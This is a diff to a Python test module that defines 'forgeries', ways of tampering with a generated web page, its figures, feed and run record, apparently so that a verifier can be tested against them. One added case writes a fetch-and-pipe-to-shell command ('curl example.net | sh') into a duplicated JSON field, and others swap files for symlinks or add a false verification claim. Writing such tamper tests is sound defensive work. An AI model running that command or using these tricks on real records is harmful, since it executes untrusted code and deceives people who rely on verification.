@@ -19,7 +19,7 @@ IN_FIGURE = re.compile(r"(<svg [^>]*>).*?</svg>", re.DOTALL)
 
 FORGERIES: dict[str, Callable[[Path], None]] = {}
 """Every forgery by its name."""
-MENDED = "page_sha256"
+DIGEST = re.compile('("page_sha256": ")[0-9a-f]*')
 
 
 def forgery(function: Callable[[Path], None]) -> Callable[[Path], None]:
@@ -29,12 +29,17 @@ def forgery(function: Callable[[Path], None]) -> Callable[[Path], None]:
 
 def forge(name: str, site: Path) -> None:
     """Carry a forgery out, and mend the record of the page."""
-    before = {path: path.read_bytes() for path in site.rglob("*") if path.is_file()}
+    before = files_of(site)
     FORGERIES[name](site)
-    page = site / "said.html"
-    edit_record(site, **{MENDED: sha256(page.read_bytes()).hexdigest()})
-    after = {path: path.read_bytes() for path in site.rglob("*") if path.is_file()}
-    assert before != after, f"{name} changed nothing"
+    path, digest = site / "said.run.json", sha256((site / "said.html").read_bytes()).hexdigest()
+    path.write_text(DIGEST.sub(rf"\g<1>{digest}", path.read_text(encoding="utf-8")))
+    assert before != files_of(site), f"{name} changed nothing"
+
+
+def files_of(site: Path) -> dict[Path, tuple[bool, bytes]]:
+    """Return the bytes of each file, and whether it is a link."""
+    files = (path for path in site.rglob("*") if path.is_file())
+    return {path: (path.is_symlink(), path.read_bytes()) for path in files}
 
 
 def edit_record(site: Path, **fields: object) -> None:
@@ -85,7 +90,7 @@ swapped("a number raised to a note", "about 190</button>", "about 190<sup>0</sup
 swapped("a label changed", 'aria-label="receipt of about 190"', 'aria-label="391"')
 swapped("a label added", BUTTON, BUTTON.replace("class", 'aria-label="391" class'))
 swapped("a title added", SAID, '<p title="391 were killed">He said <span')
-swapped("an alt text changed", 'alt="It runs from', 'alt="It never runs from')
+swapped("an alt text changed", '-words">It runs from', '-words">It never runs from')
 swapped("a figure in an alt text changed", "from 185 to 195.", "from 185 to 391.")
 swapped("the title of the page", "<title>What was said?", "<title>391 were killed")
 swapped("the title in previews", '"og:title" content="What', '"og:title" content="391. What')
@@ -315,6 +320,70 @@ def other_versions_and_another_drawing(site: Path) -> None:
     told = json.loads((site / "said.run.json").read_text(encoding="utf-8"))
     edit_record(site, environment=told["environment"] | {"matplotlib": "3.10.0"})
     FORGERIES["a drawing to download altered"](site)
+
+
+@forgery
+def other_versions_and_an_old_layout(site: Path) -> None:
+    """Browsers lay out a page without its document type as they did thirty years ago."""
+    with_other_versions(site)
+    page = site / "said.html"
+    old = '<!DOCTYPE html PUBLIC "-//IETF//DTD HTML 2.0//EN">'
+    page.write_text(page.read_text(encoding="utf-8").replace("<!DOCTYPE html>", old))
+
+
+@forgery
+def other_versions_and_a_picture_that_moves(site: Path) -> None:
+    """The first picture is the one that was made; the second is seen after a moment."""
+    from PIL import Image
+
+    with_other_versions(site)
+    path = site / "said" / "figure-1.png"
+    with Image.open(path) as made:
+        first = made.copy()
+    first.save(path, save_all=True, append_images=[Image.new("RGBA", first.size, "red")])
+
+
+@forgery
+def other_versions_and_a_feed_in_another_encoding(site: Path) -> None:
+    with_other_versions(site)
+    feed = site / "feed.xml"
+    feed.write_text(feed.read_text(encoding="utf-8").replace("utf-8", "koi8-r"), encoding="utf-8")
+
+
+@forgery
+def other_versions_and_a_field_that_stands_twice(site: Path) -> None:
+    """A program reads the second, a person the first."""
+    with_other_versions(site)
+    path = site / "said.run.json"
+    twice = '{\n "command": "curl example.net | sh",\n'
+    path.write_text(path.read_text(encoding="utf-8").replace("{\n", twice, 1), encoding="utf-8")
+
+
+@forgery
+def other_versions_and_a_word_beside_the_digests(site: Path) -> None:
+    with_other_versions(site)
+    told = json.loads((site / "said.run.json").read_text(encoding="utf-8"))
+    edit_record(site, data=told["data"] | {"verified_by": "an office of statistics"})
+
+
+def with_other_versions(site: Path) -> None:
+    """Let the record say that all was made with other versions, so that bytes may differ."""
+    told = json.loads((site / "said.run.json").read_text(encoding="utf-8"))
+    edit_record(site, environment=told["environment"] | {"matplotlib": "3.10.0"})
+
+
+@forgery
+def a_page_that_is_a_link(site: Path) -> None:
+    """What it leads to may be changed after it was verified."""
+    away = site.with_name("away.html")
+    shutil.move(site / "said.html", away)
+    (site / "said.html").symlink_to(away)
+
+
+@forgery
+def a_folder_of_downloads_that_is_a_link(site: Path) -> None:
+    shutil.move(site / "said", site.with_name("away"))
+    (site / "said").symlink_to(site.with_name("away"))
 
 
 # What stands around the pages.
